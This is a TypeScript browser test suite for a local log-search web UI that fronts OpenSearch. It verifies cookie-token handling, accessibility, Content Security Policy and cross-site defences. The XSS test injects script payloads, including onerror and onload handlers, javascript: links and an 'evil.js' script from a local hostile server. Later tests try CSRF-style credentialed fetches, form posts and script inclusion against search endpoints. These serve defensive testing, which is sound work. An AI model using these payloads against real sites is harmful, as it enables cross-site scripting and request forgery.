import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "@jest/globals";
import * as z from "zod/mini";
import { runServing } from "../cli/dashboards/run-dashboards.ts";
import { recordingServer } from "../fakes/recording-server.ts";
import { TestBrowser } from "./browser.ts";

const started = z.object({ address: z.string(), origin: z.string(), token: z.string() });

let browser: TestBrowser;
let openSearch: Awaited<ReturnType<typeof recordingServer>>;
let ui: Awaited<ReturnType<typeof runServing<z.infer<typeof started>>>>;
let hostile: Awaited<ReturnType<typeof hostileServer>>;

beforeAll(async () => {
  [browser, openSearch, hostile] = await Promise.all([
    TestBrowser.start(),
    recordingServer(
      () => 200,
      () => ({ version: { number: "3.6.0" }, hits: { total: { value: 0, relation: "eq" }, hits: [] } }),
    ),
    hostileServer(),
  ]);
  ui = await runServing(started, ["ui", "--no-open", "--port", "0", "--endpoint", openSearch.url]);
});
afterEach(async () => {
  await browser.closePages();
});
afterAll(async () => {
  await Promise.all([browser.stop(), ui.stop(), openSearch.close(), hostile.close()]);
});

/** A web site on this machine, at another port: for cookies, the same site. */
async function hostileServer() {
  const server = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>hostile</title>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

describe("in a browser, the page of logpipe ui", () => {
  it("opens with the address that was printed; the token leaves it, the fragment stays", async () => {
    const { page, context, complaints } = await browser.open(`${ui.address}#/search?q=a`);
    await page.waitForSelector("main");
    expect(page.url()).toMatch(new RegExp(`^${ui.origin}/#/search`));
    expect(page.url()).not.toContain(ui.token);
    expect(await page.evaluate("document.cookie")).toBe("");
    expect(await page.evaluate("performance.getEntriesByType('navigation').length")).toBe(1);
    expect(await context.cookies()).toEqual([
      expect.objectContaining({ value: ui.token, httpOnly: true, sameSite: "Strict" }),
    ]);
    expect(complaints).toEqual([]);
  });

  it("puts no obstacle in the way of those who cannot see it", async () => {
    const { page, obstacles } = await browser.open(ui.address);
    await page.waitForSelector("main");
    expect(await obstacles()).toEqual([]);
  });

  it("is for nobody else: a profile without the token gets a sentence", async () => {
    const { page } = await browser.open(ui.origin);
    expect(await page.textContent("body")).toContain("token");
    expect(await page.evaluate("performance.getEntriesByType('resource').length")).toBe(0);
  });

  it("runs no script of a log line, even if it became HTML", async () => {
    const { page, complaints } = await browser.open(ui.address);
    await page.evaluate(`
      document.body.insertAdjacentHTML("beforeend",
        '<img src="data:," onerror="window.ran = 1"><svg onload="window.ran = 2"></svg>' +
        '<a href="javascript:window.ran = 3" id="link">x</a><iframe srcdoc="<script>parent.ran = 4</script>"></iframe>');
      const script = document.createElement("script");
      script.textContent = "window.ran = 5";
      document.body.append(script);
      const foreign = document.createElement("script");
      foreign.src = "http://127.0.0.1:${hostile.port}/evil.js";
      document.body.append(foreign);
      document.querySelector("#link").click();
    `);
    await expect(page.evaluate(`fetch("http://127.0.0.1:${hostile.port}/")`)).rejects.toThrow("fetch");
    expect(await page.evaluate("window.ran")).toBeUndefined();
    const refused = complaints.filter((complaint) => complaint.includes("Content Security Policy"));
    expect(refused.length).toBeGreaterThan(4);
  });
});

describe("a hostile page in the same browser", () => {
  /** Of an index that the page itself does not ask for. */
  const theirSearch = "/opensearch/elb-2666-06-06/_search";
  const attempts: readonly (readonly [string, (target: string) => string])[] = [
    [
      "reads a search",
      (to) => `(await fetch("${to}", { method: "POST", credentials: "include", body: "{}" })).text()`,
    ],
    [
      "sends a search blindly",
      (to) =>
        `(await fetch("${to}", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" })).text()`,
    ],
    [
      "asks permission first",
      (to) =>
        `(await fetch("${to}", { method: "POST", headers: { "content-type": "application/json" } })).text()`,
    ],
    [
      "submits a form",
      (to) =>
        `await new Promise((done) => { document.body.innerHTML = '<form method="post" enctype="text/plain" target="f" action="${to}"><input name="{}"></form>'; const f = document.createElement("iframe"); f.name = "f"; document.body.append(f); f.onload = () => done(""); document.forms[0].submit(); })`,
    ],
    [
      "loads it as a script",
      (to) =>
        `await new Promise((done) => { const s = document.createElement("script"); s.src = "${to}"; s.onload = () => done("loaded"); s.onerror = () => done(""); document.body.append(s); })`,
    ],
  ];

  it.each(attempts)("%s: nothing gets to OpenSearch, and nothing back", async (_, attempt) => {
    const { context } = await browser.open(ui.address);
    const evil = await context.newPage();
    // For cookies, the former is the same site.
    for (const site of ["127.0.0.1", "localhost"]) {
      await evil.goto(`http://${site}:${hostile.port}`);
      for (const path of [theirSearch, "/about", "/page.js"]) {
        const code = `(async () => { try { return String(await ${attempt(`${ui.origin}${path}`)}); } catch { return ""; } })()`;
        expect(await evil.evaluate(code)).toBe("");
      }
    }
    expect(openSearch.requests.filter(({ path }) => path.includes("2666"))).toEqual([]);
  });

  it("shows it in no frame, and opens no page that shows it", async () => {
    const { context } = await browser.open(ui.address);
    const evil = await context.newPage();
    await evil.goto(`http://127.0.0.1:${hostile.port}`);
    await evil.evaluate(`new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = done;
      frame.src = "${ui.origin}/";
      document.body.append(frame);
    })`);
    const opening = context.waitForEvent("page");
    await evil.evaluate(`void window.open("${ui.origin}/")`);
    const opened = await opening;
    await opened.waitForLoadState();
    expect(await opened.textContent("body")).toContain("Sec-Fetch-Site");
    const contents = evil.frames().map(async (frame) => await frame.content().catch(() => ""));
    for (const content of await Promise.all(contents)) expect(content).not.toContain("page.js");
  });
});
